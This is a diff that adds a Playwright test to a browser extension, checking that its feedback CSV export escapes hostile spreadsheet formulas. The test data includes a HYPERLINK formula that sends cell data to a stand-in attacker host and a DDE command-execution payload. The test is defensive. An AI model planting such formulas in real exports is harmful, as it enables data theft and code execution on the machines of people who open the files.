@@ -1,6 +1,7 @@
 // Hostile input is normal: templates, names and files from strangers and other tools must never break the sidebar,
 // execute, or leak as live formulas.
 import type { BrowserContext } from '@playwright/test';
+import { readFileSync } from 'node:fs';
 import { expect, test } from './harness';
 
 async function importTemplates(context: BrowserContext, extensionId: string, templates: object[]) {
@@ -47,4 +48,29 @@ test('a template using {{constructor}}, {{toString}}, {{__proto__}}, {{valueOf}}
   await dm.page.waitForTimeout(1100);
   await expect(dm.sidebar.locator('[data-row]').first()).toBeVisible();
   expect(errors).toEqual([]);
+});
+
+test('the feedback CSV writes a hostile contact name and answer as text, never as live formulas', async ({
+  openDm,
+  context,
+  worker,
+}) => {
+  const name = '=HYPERLINK("http://evil.example/?"&A1,"Jane")';
+  const dm = await openDm('https://www.instagram.com/direct/t/1001/', {
+    threads: { '1001': { name, handle: 'evil', messages: [{ dir: 'in', text: 'hi' }] } },
+  });
+  await dm.sidebar.getByTestId('log-feedback').click();
+  await dm.sidebar.getByTestId('feedback-scale').selectOption('text');
+  await dm.sidebar.getByTestId('feedback-comment').fill('=cmd|" /C calc"!A0');
+  await dm.sidebar.getByTestId('feedback-save').click();
+  await expect(dm.sidebar.getByTestId('status')).toHaveText('Feedback logged.');
+
+  const dashboard = await context.newPage();
+  await dashboard.goto(`chrome-extension://${new URL(worker.url()).host}/dashboard.html`);
+  await expect(dashboard.getByTestId('feedback-row')).toHaveCount(1);
+  const [download] = await Promise.all([dashboard.waitForEvent('download'), dashboard.getByTestId('export-feedback').click()]);
+  const csv = readFileSync((await download.path())!, 'utf8');
+  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Jane"")"`);
+  expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
+  expect(csv).not.toMatch(/(^|,)"?=/m);
 });
